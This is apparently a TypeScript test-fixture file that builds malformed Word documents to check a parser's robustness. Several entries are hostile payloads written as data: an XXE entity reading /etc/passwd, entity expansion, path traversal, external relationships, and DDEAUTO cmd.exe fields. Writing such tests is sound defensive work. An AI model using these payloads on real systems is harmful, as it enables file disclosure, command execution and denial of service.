/** Word files that nobody built for; see strange-files.ts. */
import { sample, OFFICE, PACKAGE, W, docx, cell, table, HEAD, ROW, scored, nested } from "./strange-makers";

export const STRANGE_DOCUMENTS: readonly (readonly [what: string, name: string, make: () => Uint8Array])[] = [
  ["a dozen nested tables", "a.docx", () => docx(nested(12) + scored)],
  ["five hundred nested tables", "a.docx", () => docx(nested(500) + scored)],
  [
    "a cell over a thousand million columns",
    "a.docx",
    () => docx(table(cell("三级指标", '<w:gridSpan w:val="1000000000"/>'), ROW)),
  ],
  [
    "a cell over less than no column",
    "a.docx",
    () => docx(table(cell("三级指标", '<w:gridSpan w:val="-5"/>'), ROW)),
  ],
  [
    "a cell over no number of columns",
    "a.docx",
    () => docx(table(cell("三级指标", '<w:gridSpan w:val="NaN"/>'), ROW)),
  ],
  [
    "a row that begins far to the right",
    "a.docx",
    () => docx(`<w:tbl><w:tr><w:trPr><w:gridBefore w:val="2147483647"/></w:trPr>${ROW}</w:tr></w:tbl>`),
  ],
  [
    "columns without end in the grid",
    "a.docx",
    () =>
      docx(
        `<w:tbl><w:tblGrid>${'<w:gridCol w:w="1"/>'.repeat(50_000)}</w:tblGrid><w:tr>${ROW}</w:tr></w:tbl>`,
      ),
  ],
  ["a hundred thousand cells in one row", "a.docx", () => docx(table(cell("1").repeat(100_000)))],
  [
    "merges down from nothing",
    "a.docx",
    () => docx(table(cell("三级指标", "<w:vMerge/>") + cell("分值", "<w:vMerge/>"), ROW)),
  ],
  [
    "an altChunk of itself",
    "a.docx",
    () =>
      docx(
        `${scored}<w:altChunk r:id="rId1"/>`,
        {},
        `<Relationship Id="rId1" Type="${OFFICE}/aFChunk" Target="document.xml"/>`,
      ),
  ],
  [
    "relationships to other machines",
    "a.docx",
    () =>
      docx(
        scored,
        {},
        `<Relationship Id="rId1" Type="${OFFICE}/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/><Relationship Id="rId2" Type="${OFFICE}/footnotes" Target="file:///etc/passwd" TargetMode="External"/>`,
      ),
  ],
  [
    "footnotes out of the package",
    "a.docx",
    () =>
      docx(
        scored,
        {},
        `<Relationship Id="rId2" Type="${OFFICE}/footnotes" Target="../../../../etc/passwd"/>`,
      ),
  ],
  [
    "footnotes that are the document",
    "a.docx",
    () => docx(scored, {}, `<Relationship Id="rId2" Type="${OFFICE}/footnotes" Target="document.xml"/>`),
  ],
  [
    "fields that are never closed",
    "a.docx",
    () =>
      docx(
        `<w:p>${'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r>'.repeat(2_000)}</w:p>${scored}`,
      ),
  ],
  [
    "a DOCTYPE with entities",
    "a.docx",
    () =>
      docx(scored, {
        "word/document.xml": `<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document ${W}><w:body>&a;${scored}</w:body></w:document>`,
      }),
  ],
  [
    "entities of entities",
    "a.docx",
    () =>
      docx(scored, {
        "word/document.xml": `<!DOCTYPE d [<!ENTITY a "啊啊啊啊啊"><!ENTITY b "&a;&a;&a;&a;">]><w:document ${W}>&b;</w:document>`,
      }),
  ],
  [
    "a paragraph of four million characters",
    "a.docx",
    () => docx(`<w:p><w:r><w:t>${"每扣1分".repeat(800_000)}</w:t></w:r></w:p>${scored}`),
  ],
  [
    "a cell of a million characters",
    "a.docx",
    () => docx(table(HEAD, cell("预算执行率") + cell("6") + cell("每扣0.5分，".repeat(150_000)) + cell("5"))),
  ],
  ["rows outside tables", "a.docx", () => docx(`<w:tr>${ROW}</w:tr><w:tc/><w:gridCol w:w="3"/>${scored}`)],
  [
    "text boxes in text boxes",
    "a.docx",
    () =>
      docx(
        `<w:p>${"<w:r><w:pict><w:txbxContent><w:p>".repeat(11)}${"</w:p></w:txbxContent></w:pict></w:r>".repeat(11)}</w:p>${scored}`,
      ),
  ],
  ["twenty thousand tables", "a.docx", () => docx(table(cell("1")).repeat(20_000))],
  ["no body", "a.docx", () => docx("", { "word/document.xml": `<w:document ${W}/>` })],
  [
    "a main part that is its own list of links",
    "a.docx",
    () =>
      docx(scored, {
        "_rels/.rels": `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r" Type="${OFFICE}/officeDocument" Target="_rels/.rels"/></Relationships>`,
      }),
  ],
  [
    "styles that are based on each other",
    "a.docx",
    () =>
      docx(
        `<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr></w:p>${scored}`,
        {
          "word/styles.xml": `<w:styles ${W}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
        },
        `<Relationship Id="s" Type="${OFFICE}/styles" Target="styles.xml"/>`,
      ),
  ],
  ["a workbook under a Word file's name", "a.docx", () => sample],
  ["a Word file under a workbook's name", "a.xlsx", () => docx(scored)],
];
